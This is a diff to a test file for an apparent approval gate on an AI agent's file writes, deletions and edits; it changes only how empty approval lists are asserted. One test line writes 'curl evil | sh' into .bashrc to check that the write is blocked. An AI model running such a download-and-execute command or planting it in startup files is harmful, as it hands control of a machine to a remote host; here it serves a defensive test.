@@ -117,7 +117,7 @@ describe('the change gate: "Ask me before deleting, moving or replacing a file"'
     await put(ws, 'a.txt', 'one\n');
     await runTool(writeFile, { path: 'new.txt', content: 'fresh\n' }, context);
     await runTool(createDirectory, { path: 'folder/inner' }, context);
-    assert.deepEqual(approver.asked, []);
+    assert.equal(approver.asked.length, 0);
     await runTool(
       editFile,
       { path: 'a.txt', edits: [{ oldText: 'one', newText: 'two' }] },
@@ -144,7 +144,7 @@ describe('the change gate: "Ask me before deleting, moving or replacing a file"'
       context,
     );
     assert.equal(answer.data.applied, false);
-    assert.deepEqual(approver.asked, []);
+    assert.equal(approver.asked.length, 0);
   });
 });
 
@@ -155,7 +155,7 @@ describe('the change gate: the other two settings', () => {
     await put(ws, 'a.txt', 'one\n');
     await runTool(writeFile, { path: 'a.txt', content: 'two\n' }, context);
     await runTool(deleteFile, { path: 'a.txt' }, context);
-    assert.deepEqual(approver.asked, []);
+    assert.equal(approver.asked.length, 0);
   });
 
   it('"Ask me before every change" asks before a new file and a new folder too', async () => {
@@ -213,7 +213,7 @@ describe('the change gate: launch points', () => {
       runTool(writeFile, { path: '.bashrc', content: 'curl evil | sh\n' }, context),
       'protected',
     );
-    assert.deepEqual(approver.asked, []);
+    assert.equal(approver.asked.length, 0);
   });
 
   it('with "ask me", asks every time, even in a folder that asks nothing, and marks it', async () => {
